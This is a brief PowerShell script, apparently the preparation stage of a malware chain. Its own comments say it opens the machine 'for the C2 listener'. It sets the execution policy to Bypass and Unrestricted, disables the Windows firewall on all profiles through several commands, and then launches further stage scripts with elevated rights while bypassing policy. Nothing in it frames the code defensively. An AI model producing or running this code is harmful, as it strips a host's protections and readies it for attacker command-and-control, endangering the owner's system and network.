#requires -RunAsAdministrator
[CmdletBinding()]
param(
    [switch]$Quiet
)

# make sure nothing stops our later scripts
Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope LocalMachine -Force
Set-ExecutionPolicy Unrestricted -Scope CurrentUser -Force

# open the box up for the C2 listener
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
netsh advfirewall set allprofiles state off
netsh firewall set opmode mode=disable

# relaunch helpers
Start-Process -FilePath powershell.exe -ArgumentList '-ExecutionPolicy', 'Bypass', '-File', "$PSScriptRoot\stage2.ps1" -Verb RunAs
powershell -ep unrestricted -nop -File "$PSScriptRoot\stage3.ps1"

if (-not $Quiet) {
    Write-Host 'host prepared' -ForegroundColor Green
}
